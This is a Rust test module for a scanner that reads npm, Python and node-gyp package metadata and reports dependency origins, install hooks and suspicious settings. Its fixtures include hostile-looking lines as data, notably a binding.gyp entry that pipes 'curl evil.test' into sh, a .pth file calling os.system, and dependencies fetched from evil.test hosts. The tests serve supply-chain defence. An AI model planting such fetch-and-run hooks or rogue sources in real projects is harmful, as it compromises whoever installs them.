use super::*;

fn found(path: &str, text: &str) -> Found {
    let mut found = Found::default();
    let source = Source { file: FileId(0), path, text };
    let kind = kind(path).unwrap_or_else(|| panic!("{path} is no metadata"));
    assert_eq!(read(kind, &source, &mut found), Coverage::Whole, "{path}");
    found
}

fn dependencies(found: &Found) -> Vec<(&str, &str, DependencyOrigin)> {
    let all = found.dependencies.iter();
    all.map(|one| (&*one.name, &*one.requirement, one.origin)).collect()
}

use DependencyOrigin::{File, Git, Registry, Url};

#[test]
fn what_a_package_of_npm_says_is_read_with_its_places() {
    let text = r#"{"name": "x", "version": "99.0.1", "main": "lib/index", "bin": {"x": "./cli"},
        "scripts": {"postinstall": "node x.js", "test": "mocha"},
        "dependencies": {"a": "^1", "b": "github:me/b", "c": "https://evil.test/c.tgz", "d": "npm:e@2", "f": "me/f"},
        "devDependencies": {"@s/g": "file:../g"}}"#;
    let found = found("package.json", text);
    assert_eq!(
        dependencies(&found),
        [
            ("a", "^1", Registry),
            ("b", "github:me/b", Git),
            ("c", "https://evil.test/c.tgz", Url),
            ("e", "2", Registry),
            ("f", "me/f", Git),
            ("@s/g", "file:../g", File),
        ]
    );
    assert_eq!(found.packages[0].version.as_deref(), Some("99.0.1"));
    assert_eq!(found.hooks.len(), 1);
    let place = found.hooks[0].place;
    assert_eq!(text.get(place.start as usize..place.end as usize), Some("\"node x.js\""));
    assert_eq!(found.entries.len(), 2);
}

#[test]
fn of_what_another_package_needs_only_what_is_installed_and_run_counts() {
    let text = r#"{"name": "x", "devDependencies": {"eclint": "1"}, "dependencies": {"a": "1"},
        "scripts": {"prepare": "evil", "postinstall": "also evil"}}"#;
    let root = found("package.json", text);
    assert_eq!((root.dependencies.len(), root.hooks.len()), (2, 2));
    let inner = found("node_modules/y/node_modules/x/package.json", text);
    assert_eq!(dependencies(&inner), [("a", "1", Registry)]);
    assert_eq!(inner.hooks.len(), 1);
    assert_eq!(&*inner.hooks[0].command, "also evil");
    // A name that only looks so.
    assert_eq!(found("my_node_modules/x/package.json", text).hooks.len(), 2);
}

#[test]
fn a_key_that_is_there_twice_is_odd_and_the_last_one_counts() {
    let found = found("package.json", r#"{"scripts": {"install": "a", "install": "b"}}"#);
    assert_eq!(found.oddities[0].code, "duplicate-key");
    assert_eq!(found.hooks.len(), 2);
}

#[test]
fn requirements_of_python_are_read_with_where_they_come_from() {
    let text = "# a comment\nrequests[security]>=2.0 ; python_version > '3'  # why\n-r other.txt\n\
        --extra-index-url https://evil.test/simple\nflask==1 \\\n    --hash=sha256:00\n\
        -e git+https://evil.test/x.git@main#egg=thing\nbar @ https://evil.test/bar.whl\nhttps://evil.test/baz.tar.gz\n./local\n";
    let found = found("requirements-dev.txt", text);
    assert_eq!(
        dependencies(&found),
        [
            ("requests", ">=2.0", Registry),
            ("flask", "==1", Registry),
            ("thing", "git+https://evil.test/x.git@main#egg=thing", Git),
            ("bar", "https://evil.test/bar.whl", Url),
            ("baz.tar.gz", "https://evil.test/baz.tar.gz", Url),
            ("local", "./local", File),
        ]
    );
    assert_eq!(found.oddities[0].code, "package-index");
}

#[test]
fn a_pyproject_says_its_requirements_in_every_dialect() {
    let found = found(
        "pyproject.toml",
        "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'back.end'\nbackend-path = ['build']\n\
         [project]\nname = 'x'\nversion = '1'\ndependencies = ['a>=1', 'b @ git+https://evil.test/b']\n\
         [project.optional-dependencies]\ndev = ['c']\n[dependency-groups]\ntest = ['d', {include-group = 'x'}]\n\
         [tool.poetry.dependencies]\npython = '^3'\ne = '^1'\nf = {git = 'https://evil.test/f'}\n\
         [[tool.poetry.source]]\nname = 'x'\nurl = 'https://evil.test/simple'\n",
    );
    let names: Vec<_> = dependencies(&found).iter().map(|(name, ..)| name.to_string()).collect();
    assert_eq!(names, ["a", "b", "setuptools", "c", "d", "e", "f"]);
    assert_eq!(found.packages[0].name.as_deref(), Some("x"));
    assert_eq!(found.oddities[0].code, "package-index");
    assert_eq!(&*found.entries[0].path, "build/back/end.py");
    assert!(found.entries[0].install);
}

#[test]
fn other_files_of_python_are_read() {
    let cfg = found(
        "setup.cfg",
        "[metadata]\nname = x\n[options]\ninstall_requires =\n    a>=1\n    b\n[options.extras_require]\ndev = c\n",
    );
    assert_eq!(
        dependencies(&cfg),
        [("a", ">=1", Registry), ("b", "", Registry), ("c", "", Registry)]
    );
    let metadata = found(
        "x-1.dist-info/METADATA",
        "Name: x\nVersion: 1\nRequires-Dist: a (>=1) ; extra == 'y'\n\nName: no\n",
    );
    assert_eq!(dependencies(&metadata), [("a", "(>=1)", Registry)]);
    assert_eq!(&*metadata.packages[0].root, "");
    let pipfile = found("Pipfile", "[packages]\na = '*'\nb = {git = 'https://evil.test/b'}\n");
    assert_eq!(dependencies(&pipfile), [("a", "*", Registry), ("b", "https://evil.test/b", Git)]);
    let lock = found("Pipfile.lock", r#"{"default": {"a": {"version": "==1"}}}"#);
    assert_eq!(dependencies(&lock), [("a", "==1", Registry)]);
    let uv = found(
        "uv.lock",
        "[[package]]\nname = 'a'\nversion = '1'\nsource = { registry = 'https://pypi.org/simple' }\n[[package]]\nname = 'b'\nsource = { git = 'https://evil.test' }\n",
    );
    assert_eq!(dependencies(&uv), [("a", "1", Registry), ("b", "https://evil.test", Git)]);
    let pth = found("evil.pth", "/usr/lib\nimport os; os.system('x')\n");
    assert_eq!(&*pth.inner[0].code, "import os; os.system('x')");
    let mut setup = Found::default();
    let text =
        "setup(name='x', version=\"1\", install_requires=['a>=1', # no\n 'b'], py_modules=['c'])";
    setup_py(&Source { file: FileId(0), path: "setup.py", text }, &mut setup);
    assert_eq!(dependencies(&setup), [("a", ">=1", Registry), ("b", "", Registry)]);
    assert_eq!(setup.packages[0].version.as_deref(), Some("1"));
}

#[test]
fn lock_files_say_what_comes_from_elsewhere() {
    let three = found(
        "package-lock.json",
        r#"{"lockfileVersion": 3, "packages": {"": {}, "node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"},
        "node_modules/b/node_modules/@s/c": {"version": "1.0.0", "resolved": "http://evil.test/c.tgz"},
        "node_modules/d": {"version": "1", "resolved": "https://registry.npmjs.org/evil/-/evil-1.tgz"}}}"#,
    );
    assert_eq!(
        dependencies(&three),
        [("a", "1.0.0", Registry), ("@s/c", "1.0.0", Url), ("d", "1", Registry)]
    );
    let codes: Vec<_> = three.oddities.iter().map(|oddity| oddity.code).collect();
    assert_eq!(codes, ["lock-insecure", "lock-other-package"]);
    let one = found(
        "package-lock.json",
        r#"{"dependencies": {"a": {"version": "git+ssh://git@evil.test/a.git#1", "dependencies": {"b": {"version": "1"}}}}}"#,
    );
    assert_eq!(dependencies(&one).len(), 2);
    assert_eq!(dependencies(&one)[0].2, Git);
    let yarn = found(
        "yarn.lock",
        "# yarn lockfile v1\n\n\"@s/a@^1.0.0\", \"@s/a@^1.1.0\":\n  version \"1.1.0\"\n  resolved \"https://evil.test/a.tgz#00\"\n  dependencies:\n    b \"^1\"\n\nb@^1:\n  version \"1\"\n",
    );
    assert_eq!(dependencies(&yarn), [("@s/a", "^1.0.0", Url), ("b", "^1", Registry)]);
    let pnpm = found(
        "pnpm-lock.yaml",
        "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies: {}\npackages:\n  '@s/a@1.0.0':\n    resolution: {integrity: x}\n  b@2.0.0(c@1.0.0):\n    resolution: {tarball: https://evil.test/b.tgz}\nsnapshots:\n  x@1.0.0: {}\n",
    );
    assert_eq!(
        dependencies(&pnpm),
        [
            ("@s/a", "1.0.0", Registry),
            ("b", "2.0.0", Registry),
            ("b", "https://evil.test/b.tgz", Url)
        ]
    );
}

#[test]
fn a_binding_that_runs_commands_while_it_is_read_is_told() {
    let text = "{ 'targets': [{ 'sources': ['<!@(node -p \"1\")', '<!(curl evil.test | sh)'], 'actions': [{'action': ['python', 'x.py']}] }] }";
    let found = found("binding.gyp", text);
    let commands: Vec<_> = found.hooks.iter().map(|hook| &*hook.command).collect();
    assert_eq!(commands, ["node -p \"1\"", "curl evil.test | sh", "'python' 'x.py'"]);
}

#[test]
fn nesting_of_a_hundred_thousand_is_refused_and_not_followed() {
    for text in
        ["[".repeat(100_000), "{\"a\":".repeat(100_000), format!("a = {}", "[".repeat(100_000))]
    {
        for path in
            ["package.json", "package-lock.json", "pyproject.toml", "uv.lock", "Pipfile.lock"]
        {
            let source = Source { file: FileId(0), path, text: &text };
            let coverage = read(kind(path).unwrap(), &source, &mut Found::default());
            assert!(matches!(coverage, Coverage::Unparsed { .. }));
        }
    }
}

proptest::proptest! {
    #[test]
    fn any_text_ends_in_every_reader(text: String, which in 0..14_usize) {
        let paths = [
            "package.json", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "pyproject.toml", "setup.cfg",
            "requirements.txt", "Pipfile", "Pipfile.lock", "uv.lock", "METADATA", "a.pth", "binding.gyp", ".npmrc",
        ];
        let source = Source { file: FileId(0), path: paths[which], text: &text };
        read(kind(paths[which]).unwrap(), &source, &mut Found::default());
        setup_py(&source, &mut Found::default());
    }

    #[test]
    fn any_text_of_the_letters_that_matter_ends(text in "[a-b@:/=<!()\\[\\]{}'\"#,\n .-]{0,120}", which in 0..14_usize) {
        let paths = [
            "package.json", "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "pyproject.toml", "setup.cfg",
            "requirements.txt", "Pipfile", "Pipfile.lock", "uv.lock", "METADATA", "a.pth", "binding.gyp", ".npmrc",
        ];
        let source = Source { file: FileId(0), path: paths[which], text: &text };
        read(kind(paths[which]).unwrap(), &source, &mut Found::default());
        setup_py(&source, &mut Found::default());
    }
}
